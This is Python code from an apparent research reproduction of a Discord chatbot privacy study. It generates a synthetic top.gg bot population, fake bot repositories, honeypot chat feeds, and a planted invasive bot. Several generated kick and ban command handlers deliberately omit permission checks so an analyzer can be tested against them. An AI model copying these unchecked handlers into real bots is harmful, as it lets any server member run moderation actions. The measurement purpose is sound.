        return self.kind is RepoKind.VALID_CODE


_JS_COMMANDS = ("kick", "ban", "mute", "purge", "warn", "slowmode", "role")
_PY_COMMANDS = ("kick", "ban", "mute", "purge", "warn", "slowmode", "role")

#: The four check patterns of Table 3, by language, used when generating
#: *checked* code.  (The analyzer independently defines its own patterns.)
_JS_CHECK_SNIPPETS = (
    "if (!message.member.hasPermission('KICK_MEMBERS')) return message.reply('no permission');",
    "if (!message.member.permissions.has('BAN_MEMBERS')) return message.reply('no permission');",
    "const staff = message.member.roles.cache.some(r => r.name === 'Staff');\n  if (!staff) return;",
    "// userPermissions: ['MANAGE_MESSAGES']\n  if (!checkUserPermissions(message.member, userPermissions)) return;",
)

_PY_CHECK_SNIPPETS = (
    "perms = ctx.api.member_permissions(ctx.guild_id, ctx.author_id)\n"
    "    if not perms.has(Permission.KICK_MEMBERS):\n        return await ctx.reply('missing permission')",
    "if not ctx.author_permissions().has(Permission.BAN_MEMBERS):\n        return await ctx.reply('no')",
)


def _readme(bot_name: str, language: str | None, rng: random.Random) -> str:
    sections = [
        f"# {bot_name}",
        "",
        f"{bot_name} is a Discord bot. Invite it to your server and enjoy!",
        "",
        "## Commands",
        "",
    ]
    for command in rng.sample(_JS_COMMANDS, 3):
        sections.append(f"- `!{command}` — {command} things")
    sections += ["", "## License", "", "MIT"]
    if language:
        sections.insert(3, f"Built with {language}.")
    return "\n".join(sections)


def _generate_js_files(bot_name: str, checked: bool, rng: random.Random) -> dict[str, str]:
    files: dict[str, str] = {}
    files["package.json"] = (
        '{\n  "name": "%s",\n  "version": "1.0.0",\n  "main": "index.js",\n'
        '  "dependencies": { "discord.js": "^13.6.0" }\n}\n' % bot_name.lower()
    )
    prefix = rng.choice(("!", "?", ".", "-"))
    files["index.js"] = (
        "const { Client, Intents } = require('discord.js');\n"
        "const client = new Client({ intents: [Intents.FLAGS.GUILDS, Intents.FLAGS.GUILD_MESSAGES] });\n"
        f"const PREFIX = '{prefix}';\n"
        "const commands = require('./commands');\n\n"
        "client.on('messageCreate', message => {\n"
        "  if (!message.content.startsWith(PREFIX) || message.author.bot) return;\n"
        "  const [name, ...args] = message.content.slice(PREFIX.length).split(/\\s+/);\n"
        "  const command = commands[name];\n"
        "  if (command) command(message, args);\n"
        "});\n\n"
        "client.login(process.env.TOKEN);\n"
    )
    command_names = rng.sample(_JS_COMMANDS, rng.randint(2, 5))
    exports = []
    for index, command in enumerate(command_names):
        guard = ""
        if checked and index == 0:
            guard = "  " + rng.choice(_JS_CHECK_SNIPPETS) + "\n"
        files[f"commands/{command}.js"] = (
            f"module.exports = function {command}(message, args) {{\n"
            f"{guard}"
            f"  // {command} implementation\n"
            f"  const target = message.mentions.members.first();\n"
            f"  if (!target) return message.reply('mention someone');\n"
            f"  target.{command if command in ('kick', 'ban') else 'send'}().catch(() => {{}});\n"
            f"}};\n"
        )
        exports.append(f"  {command}: require('./{command}'),")
    files["commands/index.js"] = "module.exports = {\n" + "\n".join(exports) + "\n};\n"
    return files


def _generate_py_files(bot_name: str, checked: bool, rng: random.Random) -> dict[str, str]:
    files: dict[str, str] = {}
    files["requirements.txt"] = "discord.py==1.7.3\naiohttp\n"
    prefix = rng.choice(("!", "?", ".", "-"))
    command_names = rng.sample(_PY_COMMANDS, rng.randint(2, 5))
    handlers = []
    for index, command in enumerate(command_names):
        guard = ""
        if checked and index == 0:
            guard = "    " + rng.choice(_PY_CHECK_SNIPPETS) + "\n"
        handlers.append(
            f"@bot.command(name='{command}')\n"
            f"async def {command}(ctx, *args):\n"
            f"{guard}"
            f"    # {command} implementation\n"
            f"    await ctx.reply('{command} done')\n"
        )
    files["bot.py"] = (
        "import os\n"
        "import discord\n"
        "from discord.ext import commands\n\n"
        f"bot = commands.Bot(command_prefix='{prefix}')\n\n" + "\n\n".join(handlers) + "\n\n"
        "bot.run(os.environ['TOKEN'])\n"
    )
    files["config.py"] = "DEFAULT_PREFIX = '%s'\nOWNER_IDS = [%d]\n" % (prefix, rng.randint(10**8, 10**9))
    return files


_OTHER_LANGUAGE_FILES = {
    "TypeScript": ("src/index.ts", "import { Client } from 'discord.js';\nconst client = new Client({ intents: [] });\nclient.login(process.env.TOKEN);\n"),
    "Java": ("src/main/java/Bot.java", "public class Bot {\n  public static void main(String[] args) {\n    JDABuilder.createDefault(System.getenv(\"TOKEN\")).build();\n  }\n}\n"),
    "Go": ("main.go", "package main\n\nimport \"github.com/bwmarrin/discordgo\"\n\nfunc main() {\n  dg, _ := discordgo.New(\"Bot \" + token)\n  dg.Open()\n}\n"),
    "C#": ("Program.cs", "using Discord.WebSocket;\n\nvar client = new DiscordSocketClient();\nawait client.LoginAsync(TokenType.Bot, token);\n"),
    "Rust": ("src/main.rs", "use serenity::Client;\n\n#[tokio::main]\nasync fn main() {\n    let client = Client::builder(&token).await;\n}\n"),
}

_LANGUAGE_EXTENSIONS = {
    "JavaScript": ".js",
    "Python": ".py",
    "TypeScript": ".ts",
    "Java": ".java",
    "Go": ".go",
    "C#": ".cs",
    "Rust": ".rs",
}


def generate_repo(
    kind: RepoKind,
    owner: str,
    bot_name: str,
    language: str | None,
    has_check_api: bool,
    rng: random.Random,
) -> RepoSpec:
    """Materialise one repository spec with generated files."""
    repo_name = bot_name.lower().replace(" ", "-")
    spec = RepoSpec(kind=kind, owner=owner, name=repo_name, language=None, has_check_api=False)
    if kind is RepoKind.README_ONLY:
        spec.files = {
            "README.md": _readme(bot_name, None, rng),
            "CHANGELOG.md": "## 1.0.0\n- initial release\n",
            "LICENSE": "MIT License\n",
        }
        return spec
    if kind is not RepoKind.VALID_CODE:
        return spec
    spec.language = language
    spec.has_check_api = has_check_api and language in ("JavaScript", "Python")
    if language == "JavaScript":
        spec.files = _generate_js_files(bot_name, spec.has_check_api, rng)
    elif language == "Python":
        spec.files = _generate_py_files(bot_name, spec.has_check_api, rng)
    elif language in _OTHER_LANGUAGE_FILES:
        path, content = _OTHER_LANGUAGE_FILES[language]
        spec.files = {path: content}
    else:
        raise ValueError(f"unsupported language: {language!r}")
    spec.files["README.md"] = _readme(bot_name, language, rng)
    spec.language_breakdown = _breakdown(spec)
    return spec


def _breakdown(spec: RepoSpec) -> dict[str, float]:
    """Byte share per language, as GitHub's language bar reports."""
    by_language: dict[str, int] = {}
    for path, content in spec.files.items():
        for language, extension in _LANGUAGE_EXTENSIONS.items():
            if path.endswith(extension):
                by_language[language] = by_language.get(language, 0) + len(content)
    total = sum(by_language.values())
    if not total:
        return {}
    return {language: size / total for language, size in by_language.items()}
