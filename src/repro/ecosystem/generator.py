"""Ecosystem assembly: the full synthetic bot population.

:func:`generate_ecosystem` produces the ground-truth population that the
virtual sites render and the measurement pipeline re-measures.  All
marginals follow :mod:`repro.ecosystem.distributions`.

Since the streaming refactor the population is *defined* in
:mod:`repro.ecosystem.stream` — rank-addressable, lazily generable — and
this module is the materialized face of it: ``generate_ecosystem`` returns
the same bots ``EcosystemStream.iter_bots`` yields, as a plain list.  The
public data model (:class:`BotProfile`, :class:`Developer`,
:class:`Ecosystem`, …) is re-exported here so existing imports keep
working.
"""

from __future__ import annotations

from repro.ecosystem.stream import (
    _CLIENT_ID_BASE,
    BLOCK,
    BotProfile,
    Developer,
    Ecosystem,
    EcosystemConfig,
    EcosystemStream,
    InviteStatus,
    MelonianOverlay,
    StreamingEcosystem,
    _generate_bot,
    generate_ecosystem,
    iter_bots,
    resolve_by_client_id,
    resolve_by_name,
    votes_at,
)

__all__ = [
    "_CLIENT_ID_BASE",
    "BLOCK",
    "BotProfile",
    "Developer",
    "Ecosystem",
    "EcosystemConfig",
    "EcosystemStream",
    "InviteStatus",
    "MelonianOverlay",
    "StreamingEcosystem",
    "generate_ecosystem",
    "iter_bots",
    "resolve_by_client_id",
    "resolve_by_name",
    "votes_at",
]
