"""Ecosystem assembly: the full synthetic bot population.

:func:`generate_ecosystem` produces the ground-truth population that the
virtual sites render and the measurement pipeline re-measures.  All
marginals follow :mod:`repro.ecosystem.distributions`.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from enum import Enum

from repro.discordsim import behaviors
from repro.discordsim.oauth import OAuthScope, build_invite_url
from repro.discordsim.permissions import Permission, Permissions, permission_from_name
from repro.ecosystem import names as naming
from repro.ecosystem.distributions import DEFAULT_TARGETS, Targets
from repro.ecosystem.policies import PolicySpec, render_policy, sample_policy_spec
from repro.ecosystem.repos import RepoKind, RepoSpec, generate_repo


class InviteStatus(Enum):
    """What happens when the scraper follows the bot's invite link."""

    VALID = "valid"
    MALFORMED = "malformed"  # unparseable OAuth URL
    REMOVED = "removed"  # application deleted -> 404
    SLOW_REDIRECT = "slow_redirect"  # redirect chain that times out


@dataclass
class Developer:
    """One third-party developer account."""

    tag: str
    uses_platform: str | None = None  # third-party dev platform, if any
    bot_indices: list[int] = field(default_factory=list)

    @property
    def bot_count(self) -> int:
        return len(self.bot_indices)


@dataclass
class BotProfile:
    """Ground truth for one listed chatbot."""

    index: int
    client_id: int
    name: str
    developer_tag: str
    tags: list[str]
    description: str
    guild_count: int
    votes: int
    invite_status: InviteStatus
    permissions: Permissions
    scopes: tuple[OAuthScope, ...]
    website_host: str | None
    policy: PolicySpec
    policy_text: str
    github: RepoSpec | None
    behavior: str
    built_with: str | None = None

    @property
    def invite_url(self) -> str:
        """The invite URL shown on the listing page."""
        if self.invite_status is InviteStatus.MALFORMED:
            return f"https://discord.sim/oauth2/authorize?client_id=&permissions=oops&scope=bot&bot={self.index}"
        return build_invite_url(self.client_id, self.permissions, scopes=self.scopes)

    @property
    def has_valid_permissions(self) -> bool:
        return self.invite_status is InviteStatus.VALID

    @property
    def website_url(self) -> str | None:
        return f"https://{self.website_host}/" if self.website_host else None

    @property
    def github_url(self) -> str | None:
        if self.github is None:
            return None
        if self.github.kind is RepoKind.INVALID_LINK:
            return f"https://github.sim/{self.github.owner}/{self.github.name}-deleted"
        return self.github.url

    @property
    def is_invasive(self) -> bool:
        return self.behavior in behaviors.INVASIVE_BEHAVIORS


@dataclass
class EcosystemConfig:
    """Knobs for population generation."""

    n_bots: int = 20_915
    seed: int = 2022
    targets: Targets = field(default_factory=lambda: DEFAULT_TARGETS)
    #: Invasive-behaviour rate outside the most-voted (honeypot) sample.
    background_invasive_rate: float = 0.004
    #: Size of the most-voted window that must contain exactly one invasive
    #: bot (the Melonian plant).  Clamped to n_bots.
    honeypot_window: int = 500


@dataclass
class Ecosystem:
    """The generated population plus lookup helpers."""

    config: EcosystemConfig
    bots: list[BotProfile]  # sorted by votes, descending (the "top list")
    developers: dict[str, Developer]

    def bot_by_name(self, name: str) -> BotProfile | None:
        for bot in self.bots:
            if bot.name == name:
                return bot
        return None

    def bot_by_client_id(self, client_id: int) -> BotProfile | None:
        for bot in self.bots:
            if bot.client_id == client_id:
                return bot
        return None

    def top_voted(self, count: int) -> list[BotProfile]:
        return self.bots[:count]

    def with_valid_permissions(self) -> list[BotProfile]:
        return [bot for bot in self.bots if bot.has_valid_permissions]

    def websites(self) -> list[BotProfile]:
        return [bot for bot in self.bots if bot.website_host]

    def github_linked(self) -> list[BotProfile]:
        return [bot for bot in self.bots if bot.github is not None]


_CLIENT_ID_BASE = 100_000_000_000_000_000


def generate_ecosystem(config: EcosystemConfig | None = None) -> Ecosystem:
    """Generate the full population deterministically from ``config.seed``."""
    config = config or EcosystemConfig()
    targets = config.targets
    rng = random.Random(config.seed)

    developers = _generate_developers(config, rng)
    assignment = _assign_bots_to_developers(config.n_bots, developers, rng)

    taken_names: set[str] = set()
    bots: list[BotProfile] = []
    for index in range(config.n_bots):
        developer = assignment[index]
        name = naming.bot_name(rng, taken_names)
        tags = naming.bot_tags(rng)
        bots.append(
            _generate_bot(
                index=index,
                name=name,
                developer=developer,
                tags=tags,
                rng=rng,
                targets=targets,
            )
        )
        developer.bot_indices.append(index)

    bots.sort(key=lambda bot: bot.votes, reverse=True)
    for rank, bot in enumerate(bots):
        bot.index = rank

    _plant_honeypot_ground_truth(bots, config, rng)
    return Ecosystem(config=config, bots=bots, developers={dev.tag: dev for dev in developers})


# ---------------------------------------------------------------------------
# Internals
# ---------------------------------------------------------------------------


def _generate_developers(config: EcosystemConfig, rng: random.Random) -> list[Developer]:
    """Create enough developers to cover n_bots, following Table 1."""
    counts, weights = config.targets.population.developer_count_weights()
    developers: list[Developer] = []
    taken: set[str] = set()
    covered = 0
    while covered < config.n_bots:
        bot_count = rng.choices(counts, weights=weights, k=1)[0]
        bot_count = min(bot_count, config.n_bots - covered)
        platform = (
            rng.choice(naming.THIRD_PARTY_PLATFORMS)
            if rng.random() < config.targets.population.third_party_platform_fraction
            else None
        )
        developer = Developer(tag=naming.developer_tag(rng, taken), uses_platform=platform)
        developer.bot_indices = []  # filled during assignment
        developers.append(developer)
        covered += bot_count
        developer._quota = bot_count  # type: ignore[attr-defined]
    return developers


def _assign_bots_to_developers(n_bots: int, developers: list[Developer], rng: random.Random) -> list[Developer]:
    slots: list[Developer] = []
    for developer in developers:
        slots.extend([developer] * developer._quota)  # type: ignore[attr-defined]
    rng.shuffle(slots)
    return slots[:n_bots]


def _sample_permissions(rng: random.Random, targets: Targets) -> Permissions:
    value = Permissions.none()
    for display_name, percent in targets.fig3.percentages.items():
        if rng.random() < percent / 100.0:
            value = value | permission_from_name(display_name)
    return value


def _sample_scopes(rng: random.Random, targets: Targets) -> tuple[OAuthScope, ...]:
    """The bot scope always, plus sampled extras."""
    scopes = [OAuthScope.BOT]
    for scope_name, rate in targets.population.extra_scope_rates.items():
        if rng.random() < rate:
            scopes.append(OAuthScope(scope_name))
    return tuple(scopes)


def _sample_invite_status(rng: random.Random, targets: Targets) -> InviteStatus:
    if rng.random() < targets.population.valid_permission_fraction:
        return InviteStatus.VALID
    breakdown = targets.population.invalid_breakdown
    kinds = list(breakdown)
    status = rng.choices(kinds, weights=[breakdown[kind] for kind in kinds], k=1)[0]
    return {
        "malformed_link": InviteStatus.MALFORMED,
        "removed": InviteStatus.REMOVED,
        "slow_redirect": InviteStatus.SLOW_REDIRECT,
    }[status]


def _sample_counts(rng: random.Random, targets: Targets) -> tuple[int, int]:
    population = targets.population
    guilds = int(10 ** rng.gauss(population.guild_count_log10_mean, population.guild_count_log10_sigma))
    votes = int(10 ** rng.gauss(population.vote_count_log10_mean, population.vote_count_log10_sigma))
    return min(guilds, population.max_guild_count), min(votes, population.max_vote_count)


def _sample_github(
    rng: random.Random,
    targets: Targets,
    developer: Developer,
    bot_name: str,
) -> RepoSpec | None:
    code = targets.code
    if rng.random() >= code.github_link_fraction:
        return None
    owner = developer.tag.split("#")[0]
    if rng.random() < code.valid_repo_given_link:
        languages = list(code.language_shares)
        weights = [code.language_shares[language] for language in languages]
        choice = rng.choices(languages, weights=weights, k=1)[0]
        if choice == "readme_only":
            return generate_repo(RepoKind.README_ONLY, owner, bot_name, None, False, rng)
        check_rate = code.check_rate_by_language.get(choice, 0.0)
        has_check = rng.random() < check_rate
        return generate_repo(RepoKind.VALID_CODE, owner, bot_name, choice, has_check, rng)
    breakdown = code.invalid_link_breakdown
    kinds = list(breakdown)
    kind_name = rng.choices(kinds, weights=[breakdown[kind] for kind in kinds], k=1)[0]
    kind = {
        "user_profile": RepoKind.USER_PROFILE,
        "no_repositories": RepoKind.NO_REPOSITORIES,
        "no_public_repositories": RepoKind.NO_PUBLIC_REPOSITORIES,
        "invalid_link": RepoKind.INVALID_LINK,
    }[kind_name]
    return generate_repo(kind, owner, bot_name, None, False, rng)


def _sample_behavior(rng: random.Random, config: EcosystemConfig) -> str:
    if rng.random() < config.background_invasive_rate:
        return rng.choice((behaviors.EXFILTRATOR, behaviors.NOSY_OPERATOR))
    weights = config.targets.honeypot.benign_behavior_weights
    kinds = list(weights)
    return rng.choices(kinds, weights=[weights[kind] for kind in kinds], k=1)[0]


def _generate_bot(
    index: int,
    name: str,
    developer: Developer,
    tags: list[str],
    rng: random.Random,
    targets: Targets,
) -> BotProfile:
    invite_status = _sample_invite_status(rng, targets)
    permissions = _sample_permissions(rng, targets) if invite_status is InviteStatus.VALID else Permissions.none()
    scopes = _sample_scopes(rng, targets) if invite_status is InviteStatus.VALID else (OAuthScope.BOT,)
    guild_count, votes = _sample_counts(rng, targets)

    trace = targets.traceability
    has_website = rng.random() < trace.website_fraction
    website_host = f"{name.lower()}.botsite.sim" if has_website else None
    policy_present = has_website and rng.random() < trace.policy_link_given_website
    link_valid = policy_present and rng.random() < trace.valid_policy_given_link
    policy = sample_policy_spec(
        rng,
        present=policy_present,
        link_valid=link_valid,
        complete_fraction=trace.complete_fraction,
        categories_mentioned_weights=trace.categories_mentioned_weights,
        generic_reuse_fraction=trace.generic_reuse_fraction,
    )
    policy_text = render_policy(policy, name, rng) if policy.present and policy.link_valid else ""

    github = _sample_github(rng, targets, developer, name)

    return BotProfile(
        index=index,
        client_id=_CLIENT_ID_BASE + index,
        name=name,
        developer_tag=developer.tag,
        tags=tags,
        description=naming.bot_description(rng, name, tags),
        guild_count=guild_count,
        votes=votes,
        invite_status=invite_status,
        permissions=permissions,
        scopes=scopes,
        website_host=website_host,
        policy=policy,
        policy_text=policy_text,
        github=github,
        behavior=behaviors.BENIGN,  # assigned for real below
        built_with=developer.uses_platform,
    )


def _plant_honeypot_ground_truth(bots: list[BotProfile], config: EcosystemConfig, rng: random.Random) -> None:
    """Assign behaviours; plant exactly one invasive bot in the top window.

    Mirrors the paper's finding: of the 500 most-voted bots tested, exactly
    one ("Melonian", present in only a few guilds) was caught accessing the
    canary URL and Word document.
    """
    window = min(config.honeypot_window, len(bots))
    for bot in bots:
        bot.behavior = _sample_behavior(rng, config)
    for bot in bots[:window]:
        if bot.is_invasive:
            bot.behavior = behaviors.BENIGN
    if window:
        # Prefer a bot whose invite actually works; the planted bot must be
        # installable and able to read channels for the incident to occur.
        candidates = [bot for bot in bots[:window] if bot.invite_status is InviteStatus.VALID]
        chosen = rng.choice(candidates) if candidates else bots[rng.randrange(window)]
        chosen.behavior = behaviors.NOSY_OPERATOR
        chosen.name = naming.MELONIAN
        chosen.guild_count = rng.randint(5, 30)  # "present in a few guilds"
        chosen.invite_status = InviteStatus.VALID
        needed = Permissions.of(
            Permission.VIEW_CHANNEL,
            Permission.READ_MESSAGE_HISTORY,
            Permission.SEND_MESSAGES,
        )
        chosen.permissions = chosen.permissions | needed
