"""Ecosystem evolution: snapshots of a changing bot population.

Two of the paper's observations motivate temporal measurement: permissions
"can also be changed at any time after the chatbot is installed", and the
authors' own future work is a longitudinal large-scale study (as they did
for Alexa skills "across three years").  This module evolves an ecosystem
snapshot by one epoch: bots get delisted, new bots appear, some escalate
their requested permissions, some adopt privacy policies, some invites rot.
"""

from __future__ import annotations

import dataclasses
import random
from dataclasses import dataclass, field

from repro.discordsim.permissions import Permissions, permission_from_name
from repro.ecosystem import names as naming
from repro.ecosystem.generator import (
    BotProfile,
    Developer,
    Ecosystem,
    InviteStatus,
    _generate_bot,
)
from repro.ecosystem.policies import render_policy, sample_policy_spec


@dataclass
class EvolutionConfig:
    """Per-epoch churn rates (an epoch ≈ one measurement interval)."""

    removal_rate: float = 0.04
    new_bot_rate: float = 0.06
    permission_escalation_rate: float = 0.03
    permission_reduction_rate: float = 0.005
    policy_adoption_rate: float = 0.02
    invite_breakage_rate: float = 0.01
    #: How many permissions an escalating bot adds.
    escalation_size: tuple[int, int] = (1, 3)


@dataclass
class EvolutionLog:
    """What changed in one epoch (ground truth for longitudinal analysis)."""

    removed: list[str] = field(default_factory=list)
    added: list[str] = field(default_factory=list)
    escalated: dict[str, list[str]] = field(default_factory=dict)  # name -> new display names
    reduced: list[str] = field(default_factory=list)
    policy_adopters: list[str] = field(default_factory=list)
    invites_broken: list[str] = field(default_factory=list)


def evolve_ecosystem(
    ecosystem: Ecosystem,
    config: EvolutionConfig | None = None,
    seed: int = 1,
) -> tuple[Ecosystem, EvolutionLog]:
    """Produce the next snapshot.  The input ecosystem is left untouched."""
    config = config or EvolutionConfig()
    rng = random.Random(seed)
    log = EvolutionLog()
    targets = ecosystem.config.targets

    survivors: list[BotProfile] = []
    taken_names = {bot.name for bot in ecosystem.bots}
    for bot in ecosystem.bots:
        if rng.random() < config.removal_rate:
            log.removed.append(bot.name)
            continue
        clone = dataclasses.replace(bot)
        if clone.invite_status is InviteStatus.VALID:
            roll = rng.random()
            if roll < config.permission_escalation_rate:
                clone.permissions, added = _escalate(clone.permissions, targets, config, rng)
                if added:
                    log.escalated[clone.name] = added
            elif roll < config.permission_escalation_rate + config.permission_reduction_rate:
                clone.permissions = _reduce(clone.permissions, rng)
                log.reduced.append(clone.name)
            if rng.random() < config.invite_breakage_rate:
                clone.invite_status = rng.choice((InviteStatus.REMOVED, InviteStatus.MALFORMED))
                log.invites_broken.append(clone.name)
        if not clone.policy.present and clone.website_host and rng.random() < config.policy_adoption_rate:
            trace = targets.traceability
            clone.policy = sample_policy_spec(
                rng,
                present=True,
                link_valid=True,
                complete_fraction=trace.complete_fraction,
                categories_mentioned_weights=trace.categories_mentioned_weights,
                generic_reuse_fraction=trace.generic_reuse_fraction,
            )
            clone.policy_text = render_policy(clone.policy, clone.name, rng)
            log.policy_adopters.append(clone.name)
        survivors.append(clone)

    # Fresh entrants, appended with fresh client ids above the old range.
    developers = dict(ecosystem.developers)
    dev_tags = set(developers)
    new_count = int(len(ecosystem.bots) * config.new_bot_rate)
    next_client_id = max((bot.client_id for bot in ecosystem.bots), default=0) + 1
    for offset in range(new_count):
        developer = Developer(tag=naming.developer_tag(rng, dev_tags))
        developers[developer.tag] = developer
        name = naming.bot_name(rng, taken_names)
        bot = _generate_bot(
            index=len(survivors) + offset,
            name=name,
            developer=developer,
            tags=naming.bot_tags(rng),
            rng=rng,
            targets=targets,
        )
        bot.client_id = next_client_id
        next_client_id += 1
        survivors.append(bot)
        log.added.append(name)

    survivors.sort(key=lambda bot: bot.votes, reverse=True)
    for rank, bot in enumerate(survivors):
        bot.index = rank
    return Ecosystem(config=ecosystem.config, bots=survivors, developers=developers), log


def _escalate(
    permissions: Permissions,
    targets,
    config: EvolutionConfig,
    rng: random.Random,
) -> tuple[Permissions, list[str]]:
    """Add 1–3 permissions, sampled by their ecosystem popularity."""
    candidates = [
        name for name in targets.fig3.percentages if not permissions.has_exactly(permission_from_name(name))
    ]
    if not candidates:
        return permissions, []
    count = rng.randint(*config.escalation_size)
    weights = [targets.fig3.percentages[name] for name in candidates]
    added: list[str] = []
    for _ in range(min(count, len(candidates))):
        choice = rng.choices(candidates, weights=weights, k=1)[0]
        position = candidates.index(choice)
        candidates.pop(position)
        weights.pop(position)
        permissions = permissions | permission_from_name(choice)
        added.append(choice)
    return permissions, added


def _reduce(permissions: Permissions, rng: random.Random) -> Permissions:
    flags = permissions.flags()
    if not flags:
        return permissions
    victim = rng.choice(flags)
    return permissions - Permissions.of(victim)
