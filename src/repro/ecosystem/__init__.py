"""Calibrated synthetic chatbot ecosystem.

The paper measured 20,915 real top.gg listings.  Offline, we generate a
population whose *marginals* are calibrated to every statistic the paper
reports (see :mod:`repro.ecosystem.distributions` for the table of targets
and their provenance) and re-measure them through the full pipeline, so the
benchmarks compare pipeline output against the paper's numbers.
"""

from repro.ecosystem.distributions import (
    CodeAnalysisTargets,
    Fig3Targets,
    HoneypotTargets,
    PopulationTargets,
    TraceabilityTargets,
    DEFAULT_TARGETS,
)
from repro.ecosystem.generator import BotProfile, Developer, Ecosystem, EcosystemConfig, generate_ecosystem

__all__ = [
    "BotProfile",
    "CodeAnalysisTargets",
    "DEFAULT_TARGETS",
    "Developer",
    "Ecosystem",
    "EcosystemConfig",
    "Fig3Targets",
    "HoneypotTargets",
    "PopulationTargets",
    "TraceabilityTargets",
    "generate_ecosystem",
]
