"""Deterministic name generation for bots, developers and tags."""

from __future__ import annotations

import random

BOT_ADJECTIVES = (
    "Mega", "Hyper", "Turbo", "Pixel", "Nova", "Astro", "Cosmic", "Shadow",
    "Crystal", "Iron", "Neon", "Quantum", "Rapid", "Silent", "Solar", "Lunar",
    "Vivid", "Zen", "Echo", "Frost", "Ember", "Storm", "Drift", "Prime",
    "Omega", "Alpha", "Cyber", "Retro", "Velvet", "Golden",
)

BOT_NOUNS = (
    "Moderator", "Helper", "Guardian", "Jukebox", "Quizzer", "Greeter",
    "Ranker", "Logger", "Notifier", "Translator", "Counter", "Paladin",
    "Scribe", "Herald", "Butler", "Warden", "Oracle", "Courier", "Sentry",
    "Maestro", "Curator", "Pilot", "Companion", "Wizard", "Scout", "Keeper",
    "Dealer", "Critic", "Chef", "Barista",
)

# Suffixes are deliberately digit-free: generated names end with the bot's
# rank, and trailing digits must decode back to it unambiguously.
BOT_SUFFIXES = ("", "", "", "Bot", "Bot", "X", "Go", "Pro", "Lite", "HQ")

DEVELOPER_NAMES = (
    "aiden", "bella", "carlos", "daria", "elliot", "fatima", "george",
    "hana", "ivan", "jules", "kaito", "lena", "marco", "nadia", "oscar",
    "priya", "quinn", "rosa", "sam", "tara", "umar", "vera", "wes", "xena",
    "yuki", "zane", "editid", "pixeldev", "codewolf", "nightowl",
)

TAGS = (
    "moderation", "music", "fun", "gaming", "social", "meme", "utility",
    "economy", "leveling", "anime", "roleplay", "logging", "welcome",
    "polls", "translation", "nsfw-filter", "giveaways", "stats",
)

THIRD_PARTY_PLATFORMS = ("botghost.com", "autocode.com", "discordbotstudio.org")

#: The bot the paper caught red-handed; planted verbatim for fidelity.
MELONIAN = "Melonian"


def bot_name(rng: random.Random, taken: set[str]) -> str:
    """Generate a unique bot name.

    A handful of random attempts, then a counter suffix: the combinatorial
    space (~9k) is smaller than the full population (~21k), so unbounded
    rejection sampling would thrash once the space saturates.
    """
    for _ in range(8):
        name = rng.choice(BOT_ADJECTIVES) + rng.choice(BOT_NOUNS) + rng.choice(BOT_SUFFIXES)
        if name not in taken:
            taken.add(name)
            return name
    name = f"{rng.choice(BOT_ADJECTIVES)}{rng.choice(BOT_NOUNS)}{len(taken)}"
    taken.add(name)
    return name


def developer_tag(rng: random.Random, taken: set[str]) -> str:
    """Generate a unique ``name#discriminator`` developer tag."""
    for _ in range(8):
        tag = f"{rng.choice(DEVELOPER_NAMES)}#{rng.randint(1000, 9999)}"
        if tag not in taken:
            taken.add(tag)
            return tag
    tag = f"{rng.choice(DEVELOPER_NAMES)}{len(taken)}#{rng.randint(1000, 9999)}"
    taken.add(tag)
    return tag


def bot_tags(rng: random.Random) -> list[str]:
    count = rng.randint(1, 4)
    return rng.sample(TAGS, count)


def bot_description(rng: random.Random, name: str, tags: list[str]) -> str:
    purpose = tags[0] if tags else "utility"
    templates = (
        f"{name} is the ultimate {purpose} bot for your server!",
        f"Bring {purpose} to your community with {name}.",
        f"{name} — {purpose}, leveling, and more. Trusted by thousands of servers.",
        f"A powerful {purpose} bot. Easy setup, 24/7 uptime.",
        f"{name} makes {purpose} effortless. Invite now!",
    )
    return rng.choice(templates)
