"""OSN-style conversational corpus for the honeypot feed.

The paper seeds honeypot guilds with "publicly available messages from
social networks (OSN) like Reddit" because IM conversation is "shorter and
less formal than email".  We generate messages with the same surface
properties: short, informal, slangy, topic-drifting, occasionally reacting
to the previous message.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

_OPENERS = (
    "ok so", "ngl", "tbh", "lol", "bro", "yo", "wait", "honestly", "fr",
    "lmaooo", "dude", "omg", "nah", "yeah", "hmm", "btw", "also", "imo",
)

_TOPICS = (
    "that new patch", "the ranked queue", "my build", "the finals last night",
    "this pizza place", "the new season", "that meme", "the update",
    "my internet", "the server lag", "that boss fight", "the trailer",
    "my setup", "the playlist", "that stream", "the weekend plans",
)

_REMARKS = (
    "is actually insane", "kinda slaps", "is so mid", "broke everything again",
    "was worth it", "makes no sense", "is overrated af", "caught me off guard",
    "needs a nerf", "deserves more hype", "ruined my whole run", "is lowkey fire",
)

_REACTIONS = (
    "lol same", "no way", "facts", "big if true", "rip", "oof", "so true",
    "couldn't agree more", "that's rough buddy", "skill issue tbh", "W take",
    "L take ngl", "sounds fake but ok", "real", "this ^",
)

_QUESTIONS = (
    "anyone up for a match later?", "what time are we raiding?",
    "did you see the announcement?", "who broke the build?",
    "is the event still on?", "can someone invite me?",
    "what's the move tonight?", "we grinding this weekend or what?",
)

_EMOJI = ("", "", "", " :joy:", " :fire:", " :skull:", " :eyes:", " xD", " lmao")


@dataclass
class FeedMessage:
    """One corpus message, pre-attribution (personas assigned by the feed)."""

    text: str
    is_reaction: bool = False


class ConversationGenerator:
    """Generates an endless stream of plausible chat messages."""

    def __init__(self, rng: random.Random) -> None:
        self._rng = rng
        self._last_was_statement = False

    def next_message(self) -> FeedMessage:
        rng = self._rng
        roll = rng.random()
        if self._last_was_statement and roll < 0.35:
            self._last_was_statement = False
            return FeedMessage(text=rng.choice(_REACTIONS) + rng.choice(_EMOJI), is_reaction=True)
        if roll < 0.2:
            self._last_was_statement = False
            return FeedMessage(text=rng.choice(_QUESTIONS))
        self._last_was_statement = True
        text = f"{rng.choice(_OPENERS)} {rng.choice(_TOPICS)} {rng.choice(_REMARKS)}{rng.choice(_EMOJI)}"
        return FeedMessage(text=text)

    def batch(self, count: int) -> list[FeedMessage]:
        return [self.next_message() for _ in range(count)]


def style_metrics(messages: list[str]) -> dict[str, float]:
    """Crude style metrics used to assert OSN-likeness in tests.

    Returns mean word count and the fraction of messages containing
    informal markers — IM chat should be short (< ~15 words) and informal.
    """
    if not messages:
        return {"mean_words": 0.0, "informal_fraction": 0.0}
    informal_markers = set(_OPENERS) | {"lol", "lmao", "af", "ngl", "tbh", "fr"}
    word_counts = [len(message.split()) for message in messages]
    informal = sum(
        1 for message in messages if any(marker in message.lower() for marker in informal_markers)
    )
    return {
        "mean_words": sum(word_counts) / len(word_counts),
        "informal_fraction": informal / len(messages),
    }
